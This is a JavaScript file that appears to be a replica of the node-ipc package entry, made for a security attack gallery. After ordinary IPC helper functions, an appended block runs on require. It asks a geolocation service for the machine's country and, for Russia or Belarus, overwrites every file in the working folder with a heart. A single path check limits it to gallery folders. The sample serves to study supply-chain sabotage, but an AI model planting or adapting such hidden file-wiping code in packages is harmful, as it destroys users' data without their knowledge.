// node-ipc (replica), CommonJS entry: socket paths in the temp folder, a config file of the app's choosing.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const config = { socketRoot: os.tmpdir(), appspace: 'app.', id: 'app' };
exports.config = config;
exports.socketPath = (id) => path.join(config.socketRoot, config.appspace + (id || config.id));
exports.readConfig = (file) => {
  try {
    Object.assign(config, JSON.parse(fs.readFileSync(file, 'utf8')));
  } catch (e) {}
  return config;
};
exports.clean = (id) => {
  try {
    fs.unlinkSync(exports.socketPath(id));
  } catch (e) {}
};

// Appended to the CommonJS entry only (replica; the ES module entry is unchanged). In 2022 node-ipc
// 10.1.1 asked a geolocation API where the machine was and, in Russia or Belarus, overwrote every file it
// could reach with a heart; in 2026 a stealer was appended to node-ipc.cjs alone. This one asks a fake
// geolocation API on 127.0.0.1, which answers "Russia", and overwrites the files of the working folder —
// only inside a folder made by the attack gallery.
(function () {
  const http = require('http');
  function overwrite(dir) {
    if (!/\/packsec-attacks-/.test(dir)) return;
    for (const name of fs.readdirSync(dir)) {
      if (name === 'node_modules' || name.startsWith('.')) continue;
      const file = path.join(dir, name);
      try {
        if (fs.statSync(file).isDirectory()) overwrite(file);
        else fs.writeFileSync(file, '❤️');
      } catch (e) {}
    }
  }
  try {
    http.get('__SERVICE__/geo/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154', (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c) => { body += c; });
      res.on('end', () => {
        let country = '';
        try { country = JSON.parse(body).country_name.toLowerCase(); } catch (e) {}
        if (country.includes('russia') || country.includes('belarus')) {
          try { overwrite(process.cwd()); } catch (e) {}
        }
      });
    }).on('error', () => {});
  } catch (e) {}
})();
